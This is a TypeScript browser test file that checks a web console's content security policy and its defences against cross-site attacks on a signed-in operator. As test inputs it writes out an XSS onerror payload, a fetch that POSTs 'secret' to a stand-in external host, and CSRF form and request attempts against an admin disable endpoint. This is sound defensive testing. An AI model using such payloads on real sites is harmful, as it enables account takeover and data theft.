/** What the page must not do, and what other pages cannot do with a signed-in person. */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { type Agency, openWorld, type World } from './console-page.ts';

let world: World;
let agency: Agency;
beforeAll(async () => {
  world = await openWorld();
  agency = await world.agency('safe');
});
afterAll(() => world.close());

describe('the page’s policy', () => {
  test("allows only the page's own code: none inline, none from elsewhere, none by eval; and lets no data out", async () => {
    const page = await world.openAs('operator', agency.at());
    await page.getByRole('heading', { name: 'Connection' }).waitFor();
    const done = await page.evaluate(async () => {
      const violated: string[] = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        violated.push(effectiveDirective);
      });
      const attempt = (act: () => void): void => {
        try {
          act();
        } catch (error) {
          violated.push((error as Error).name);
        }
      };
      const ran = window as unknown as { ran?: true };
      attempt(() => {
        document.body.innerHTML += '<img src=x onerror="window.ran = true">';
      });
      attempt(() => {
        const button = document.createElement('button');
        button.setAttribute('onclick', 'window.ran = true');
        document.body.append(button);
        button.click();
      });
      const style = document.createElement('style');
      style.textContent = 'body { display: none }';
      document.head.append(style);
      await fetch('https://elsewhere.example/', { method: 'POST', body: 'secret' }).catch(() => undefined);
      await new Promise((resolve) => setTimeout(resolve, 100));
      return {
        ran: ran.ran,
        violated: [...new Set(violated)].sort(),
        shown: getComputedStyle(document.body).display,
      };
    });
    expect(done.ran).toBeUndefined();
    expect(done.shown).not.toBe('none');
    expect(done.violated).toEqual([
      'TypeError',
      'connect-src',
      'require-trusted-types-for',
      'style-src-elem',
    ]);
    // It is also what tells every other test of a violation.
    expect(world.broken.splice(0).length).toBeGreaterThan(2);
  });
});

describe('another site', () => {
  let server: Server;
  let elsewhere: string;
  beforeAll(async () => {
    server = createServer((_request, response) => {
      response.setHeader('content-type', 'text/html');
      response.end('<!doctype html><title>Elsewhere</title>');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    elsewhere = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(() => new Promise((resolve) => server.close(resolve)));

  test('cannot act for the person who is signed in: not by a form, a request or a frame', async () => {
    const page = await world.openAs('operator', agency.at());
    await page.getByRole('heading', { name: 'Connection' }).waitFor();
    const statuses: string[] = [];
    page.context().on('response', (response) => {
      if (response.url().includes('/admin/v1/') && response.request().frame().url().startsWith(elsewhere))
        statuses.push(`${response.request().method()} ${response.status()}`);
    });
    const act = `${world.url}/admin/v1/tenants/${agency.domain}/disable`;
    // The same tab: it holds the session, and the browser whatever cookies there are.
    await page.goto(elsewhere);
    expect(await page.evaluate(() => sessionStorage.length)).toBe(0);
    const outcomes = await page.evaluate(async (url) => {
      const send = async (init: RequestInit): Promise<string> => {
        try {
          const { type, status } = await fetch(url, {
            method: 'POST',
            body: '{}',
            credentials: 'include',
            ...init,
          });
          return `${type} ${status}`;
        } catch {
          return 'kept back';
        }
      };
      return [
        await send({ mode: 'no-cors' }),
        await send({ headers: { 'content-type': 'application/json' } }),
        await send({ headers: { authorization: 'Bearer guessed' } }),
      ];
    }, act);
    expect(outcomes).toEqual(['opaque 0', 'kept back', 'kept back']);
    expect([...new Set(statuses)].filter((one) => one.startsWith('POST'))).toEqual(['POST 401']);

    await page.setContent(
      `<form method="post" action="${act}" enctype="text/plain"><input name="{" value="}"></form>`,
    );
    const [answer] = await Promise.all([
      page
        .waitForNavigation()
        .then((response) => response ?? Promise.reject(new Error('the form went nowhere'))),
      page.evaluate(() => {
        document.forms[0]?.submit();
      }),
    ]);
    expect(answer.status()).toBe(401);

    await page.goto(elsewhere);
    await page.setContent(`<iframe src="${world.url}/console"></iframe>`);
    await expect(
      page.frameLocator('iframe').getByText('Sourcewhale').first().waitFor({ timeout: 1_500 }),
    ).rejects.toThrow();
    world.broken.splice(0);

    const { status } = await world.ask<{ status: string }>('operator', `/tenants/${agency.domain}`);
    expect(status).toBe('enabled');
  });
});
